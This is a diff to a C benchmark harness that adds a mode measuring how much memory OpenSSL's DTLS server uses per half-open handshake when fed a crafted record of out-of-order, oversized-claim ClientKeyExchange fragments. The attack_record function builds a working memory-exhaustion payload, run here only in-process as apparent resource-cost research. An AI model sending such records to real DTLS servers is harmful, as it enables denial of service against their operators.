@@ -5,6 +5,13 @@
  * is freed after its handshake and every server SSL is kept. Benchmark harness, no network.
  *
  *   openssl_scale [-n 10000,100000] [--no-cookie] [-i WIRE_IDENTITY]     JSON on stdout
+ *   openssl_scale --attack N [--no-record]                                JSON on stdout
+ *
+ * --attack N: the half-open reassembly attack of benches/dtls_halfopen_attack.rs on libssl: N
+ * server SSLs each run the cookie exchange and send their first flight, then get one 429-byte
+ * record of eight out-of-order ClientKeyExchange fragments (message_seq 2..9) claiming 16 KiB;
+ * prints the RSS growth per half-open handshake (--no-record: without the attack record, what a
+ * half-open handshake costs by itself).
  *
  * The scale runs use identity "dev" and a key of sixteen 7s, as benches/server_scale.rs does;
  * the wire counts use WIRE_IDENTITY (default "dev"): the report passes its 16-byte identity.
@@ -120,21 +127,29 @@ static BIO *mem(int dir) {
     return b;
 }
 
+/* A client and a server SSL joined by two memory BIOs (c2s: client to server, s2c: back). */
+static int joined(SSL_CTX *cc, SSL_CTX *sc, SSL **c, SSL **s, BIO **c2s, BIO **s2c) {
+    *c = SSL_new(cc), *s = SSL_new(sc);
+    if (!*c || !*s) return 0;
+    *c2s = mem(0), *s2c = mem(1);
+    BIO_up_ref(*c2s);
+    BIO_up_ref(*s2c);
+    SSL_set_bio(*c, *s2c, *c2s); /* each SSL owns one reference of each BIO */
+    SSL_set_bio(*s, *c2s, *s2c);
+    SSL_set_mtu(*c, 1400);
+    SSL_set_mtu(*s, 1400);
+    DTLS_set_link_mtu(*c, 1400);
+    DTLS_set_link_mtu(*s, 1400);
+    SSL_set_connect_state(*c);
+    SSL_set_accept_state(*s);
+    return 1;
+}
+
 /* One handshake; returns the established server SSL (NULL on failure). */
 static SSL *handshake(SSL_CTX *cc, SSL_CTX *sc) {
-    SSL *c = SSL_new(cc), *s = SSL_new(sc);
-    if (!c || !s) return NULL;
-    BIO *c2s = mem(0), *s2c = mem(1);
-    BIO_up_ref(c2s);
-    BIO_up_ref(s2c);
-    SSL_set_bio(c, s2c, c2s); /* client reads s2c, writes c2s */
-    SSL_set_bio(s, c2s, s2c);
-    SSL_set_mtu(c, 1400);
-    SSL_set_mtu(s, 1400);
-    DTLS_set_link_mtu(c, 1400);
-    DTLS_set_link_mtu(s, 1400);
-    SSL_set_connect_state(c);
-    SSL_set_accept_state(s);
+    SSL *c, *s;
+    BIO *c2s, *s2c;
+    if (!joined(cc, sc, &c, &s, &c2s, &s2c)) return NULL;
     int cd = 0, sd = 0;
     for (int i = 0; i < 40 && !(cd && sd); i++) {
         if (!cd) {
@@ -173,7 +188,80 @@ static int wire_json(SSL_CTX *cc, int cookie, const char *name) {
     return 1;
 }
 
+/* The attack record: eight fragments (seq 2..9, length 16384, offset 16000, 40 bytes). */
+static size_t attack_record(unsigned char *d) {
+    size_t n = 13;
+    for (int m = 2; m < 10; m++) {
+        unsigned char *f = d + n;
+        f[0] = 16; /* client_key_exchange */
+        f[1] = 0x00, f[2] = 0x40, f[3] = 0x00; /* length 16384 */
+        f[4] = 0, f[5] = (unsigned char)m; /* message_seq */
+        f[6] = 0x00, f[7] = 0x3E, f[8] = 0x80; /* fragment_offset 16000 */
+        f[9] = 0, f[10] = 0, f[11] = 40; /* fragment_length */
+        memset(f + 12, 0xA5, 40);
+        n += 52;
+    }
+    unsigned char h[13] = {22, 0xFE, 0xFD, 0, 0, 0, 0, 0, 0, 0, 100, 0, 0};
+    h[11] = (unsigned char)((n - 13) >> 8), h[12] = (unsigned char)(n - 13);
+    memcpy(d, h, 13);
+    return n;
+}
+
+/* A server SSL after the cookie exchange and its first flight, fed the attack record (unless
+ * `quiet`: then nothing more, the cost of a half-open handshake alone). */
+static SSL *half_open(SSL_CTX *cc, SSL_CTX *sc, int quiet) {
+    SSL *c, *s;
+    BIO *c2s, *s2c;
+    if (!joined(cc, sc, &c, &s, &c2s, &s2c)) return NULL;
+    /* CH, HVR, CH with cookie, ServerHello..ServerHelloDone */
+    for (int i = 0; i < 2; i++) {
+        SSL_do_handshake(c);
+        SSL_do_handshake(s);
+    }
+    SSL_free(c);
+    if (SSL_get_state(s) != TLS_ST_SW_SRVR_DONE) { /* its first flight is out */
+        SSL_free(s);
+        return NULL;
+    }
+    unsigned char rec[512];
+    size_t n = attack_record(rec);
+    (void)BIO_reset(s2c); /* the first flight, which the client never reads */
+    if (!quiet) {
+        BIO_write(c2s, rec, (int)n);
+        SSL_do_handshake(s);
+    }
+    return s;
+}
+
+static int attack(long n, int quiet) {
+    SSL_CTX *cc = ctx(0, 0), *sc = ctx(1, 1);
+    if (!cc || !sc) return 3;
+    SSL_free(half_open(cc, sc, quiet)); /* warm-up */
+    SSL **held = calloc((size_t)n, sizeof *held);
+    if (!held) return 5;
+    long base = rss();
+    long opened = 0;
+    for (long i = 0; i < n; i++) opened += (held[i] = half_open(cc, sc, quiet)) != NULL;
+    long grown = rss() - base;
+    if (opened != n) {
+        fprintf(stderr, "only %ld of %ld handshakes reached the half-open state\n", opened, n);
+        return 6;
+    }
+    unsigned char rec[512];
+    printf("{\"version\": \"%s\", \"half_open\": %ld, \"attack_record_bytes\": %zu, "
+           "\"rss_growth_kib\": %.1f, \"rss_growth_per_half_open_kib\": %.2f}\n",
+           OpenSSL_version(OPENSSL_VERSION), n, quiet ? 0 : attack_record(rec), (double)grown / 1024.0,
+           (double)grown / 1024.0 / (double)n);
+    for (long i = 0; i < n; i++) SSL_free(held[i]);
+    free(held);
+    SSL_CTX_free(cc);
+    SSL_CTX_free(sc);
+    return 0;
+}
+
 int main(int argc, char **argv) {
+    if (argc >= 3 && !strcmp(argv[1], "--attack"))
+        return attack(atol(argv[2]), argc == 4 && !strcmp(argv[3], "--no-record"));
     long counts[8] = {10000, 100000};
     int ncounts = 2, cookie = 1;
     const char *wire_id = "dev";
